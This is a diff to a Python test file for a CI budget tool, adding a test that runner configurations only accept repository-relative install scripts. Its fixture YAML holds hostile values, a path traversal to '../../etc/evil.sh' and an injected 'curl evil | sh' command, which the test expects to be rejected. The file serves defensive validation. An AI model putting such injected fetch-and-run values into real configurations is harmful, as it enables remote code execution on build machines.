@@ -16,6 +16,7 @@ def test_profile_reads_runners_suites_timeouts_and_rules(tmp_path):
         "runs-on": ["1-gpu-h100"],
         "gpus": 1,
         "arch": "sm90",
+        "install": "setup.sh",  # what the stage job runs before its tests
     }
     # a $label the workflow substitutes: the everyday value it writes, for every config using it
     assert s["runner-configs"]["4-gpu-b200"]["runs-on"] == ["b200-pool"]
@@ -97,3 +98,33 @@ def test_scan_on_the_tree_warns_once_and_knows_the_runners(tmp_path):
         capture_output=True, text=True,
     )  # fmt: skip
     assert "warning" not in done.stderr, done.stderr
+
+
+def test_matrix_rows_name_the_install_script_of_their_runner_config(tmp_path):
+    from ci_budget.config import RunnerConfig
+    from ci_budget.models import Registration
+    from ci_budget.trigger.rows import suite_rows
+
+    root = make_tree(tmp_path)
+    (root / "scripts/ci/runner_configs.yml").write_text(
+        "runner_configs:\n"
+        "  1-gpu-large: { install: scripts/ci/cuda/ci_install_dependency.sh, runs_on: h100 }\n"
+        "  2-gpu-large: { install: ../../etc/evil.sh, runs_on: h100x2 }\n"
+        "  4-gpu-gb300: { install: 'x; curl evil | sh', runs_on: gb300 }\n"
+    )
+    config = load_config(root)
+    assert config.runner("1-gpu-large").install == "scripts/ci/cuda/ci_install_dependency.sh"
+    # Not a repository path: not a script to run (the runs-on label is still read).
+    assert config.runner("2-gpu-large").install is None
+    assert config.runner("4-gpu-gb300").install is None
+    reg = Registration(file="test/registered/a.py", line=1, function="register_cuda_ci",
+                       backend="cuda", est_time=60,
+                       suite="base-b-test-1-gpu-large", stage="base-b",
+                       runner_config="1-gpu-large")  # fmt: skip
+    rows, _ = suite_rows([reg], config)
+    assert [r.install for r in rows] == ["scripts/ci/cuda/ci_install_dependency.sh"]
+    import pytest
+    from pydantic import ValidationError
+
+    with pytest.raises(ValidationError):
+        RunnerConfig(install="/abs/path.sh")
